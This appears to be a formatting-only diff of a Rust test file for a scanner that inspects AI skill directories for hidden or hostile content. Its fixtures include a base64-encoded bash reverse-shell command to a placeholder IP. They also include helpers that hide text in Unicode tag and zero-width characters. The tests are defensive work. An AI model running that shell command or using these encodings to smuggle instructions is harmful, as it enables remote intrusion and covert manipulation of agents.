@@ -18,13 +18,19 @@ struct Case {
 }
 
 fn files(layout: Layout) -> Vec<(String, Vec<u8>)> {
-    layout.iter().map(|(path, content)| (path.to_string(), content.to_vec())).collect()
+    layout
+        .iter()
+        .map(|(path, content)| (path.to_string(), content.to_vec()))
+        .collect()
 }
 
 fn build(files: &[(String, Vec<u8>)]) -> SkillDir {
     let dir = SkillDir::new();
     if !files.iter().any(|(path, _)| path == "SKILL.md") {
-        dir.write("SKILL.md", "---\nname: case\ndescription: A test case.\n---\nHelp the user.\n");
+        dir.write(
+            "SKILL.md",
+            "---\nname: case\ndescription: A test case.\n---\nHelp the user.\n",
+        );
     }
     for (path, content) in files {
         dir.write_bytes(path, content);
@@ -33,12 +39,22 @@ fn build(files: &[(String, Vec<u8>)]) -> SkillDir {
 }
 
 fn tags(text: &str) -> String {
-    text.chars().filter_map(|character| char::from_u32(0xE0000 + u32::from(character))).collect()
+    text.chars()
+        .filter_map(|character| char::from_u32(0xE0000 + u32::from(character)))
+        .collect()
 }
 
 fn zero_width_bits(text: &str) -> String {
     text.bytes()
-        .flat_map(|byte| (0..8).rev().map(move |bit| if byte >> bit & 1 == 1 { '\u{200C}' } else { '\u{200B}' }))
+        .flat_map(|byte| {
+            (0..8).rev().map(move |bit| {
+                if byte >> bit & 1 == 1 {
+                    '\u{200C}'
+                } else {
+                    '\u{200B}'
+                }
+            })
+        })
         .collect()
 }
 
@@ -49,10 +65,19 @@ fn elf() -> Vec<u8> {
 }
 
 fn cases() -> Vec<Case> {
-    let manifest = |body: &str| (String::from("SKILL.md"), format!("---\nname: case\ndescription: A test case.\n---\n{body}").into_bytes());
-    let tools = |list: &str| (String::from("SKILL.md"), format!("---\nname: case\ndescription: A test case.\nallowed-tools: {list}\n---\nRun the script.\n").into_bytes());
-    let encoded_shell = base64::engine::general_purpose::STANDARD.encode("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");
-    let encoded_text = base64::engine::general_purpose::STANDARD.encode("The quick brown fox jumps over the lazy dog, twice over.");
+    let manifest = |body: &str| {
+        (
+            String::from("SKILL.md"),
+            format!("---\nname: case\ndescription: A test case.\n---\n{body}").into_bytes(),
+        )
+    };
+    let tools = |list: &str| {
+        (String::from("SKILL.md"), format!("---\nname: case\ndescription: A test case.\nallowed-tools: {list}\n---\nRun the script.\n").into_bytes())
+    };
+    let encoded_shell = base64::engine::general_purpose::STANDARD
+        .encode("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");
+    let encoded_text = base64::engine::general_purpose::STANDARD
+        .encode("The quick brown fox jumps over the lazy dog, twice over.");
     let encoded_elf = base64::engine::general_purpose::STANDARD.encode(elf());
     vec![
         Case {
@@ -183,11 +208,19 @@ fn builtin_checks_fire_and_stay_quiet() {
     for case in cases() {
         let fired = scan(build(&case.fire).path());
         if !rule_ids(&fired).contains(&case.rule) {
-            failures.push(format!("{} does not fire: {:?}", case.rule, rule_ids(&fired)));
+            failures.push(format!(
+                "{} does not fire: {:?}",
+                case.rule,
+                rule_ids(&fired)
+            ));
         }
         let quiet = scan(build(&case.quiet).path());
         if rule_ids(&quiet).contains(&case.rule) {
-            failures.push(format!("{} fires on its near-miss: {:?}", case.rule, rule_ids(&quiet)));
+            failures.push(format!(
+                "{} fires on its near-miss: {:?}",
+                case.rule,
+                rule_ids(&quiet)
+            ));
         }
     }
     assert!(failures.is_empty(), "{}", failures.join("\n"));
@@ -197,9 +230,16 @@ fn builtin_checks_fire_and_stay_quiet() {
 fn fifo_reported_not_read() {
     let dir = build(&files(&[("notes.txt", b"plain\n")]));
     let fifo = dir.path().join("pipe");
-    let status = std::process::Command::new("mkfifo").arg(&fifo).status().expect("mkfifo runs");
+    let status = std::process::Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .expect("mkfifo runs");
     assert!(status.success());
     let result = scan(dir.path());
-    assert!(rule_ids(&result).contains(&"FILE_SPECIAL"), "{:?}", rule_ids(&result));
+    assert!(
+        rule_ids(&result).contains(&"FILE_SPECIAL"),
+        "{:?}",
+        rule_ids(&result)
+    );
     assert!(!result.is_safe);
 }
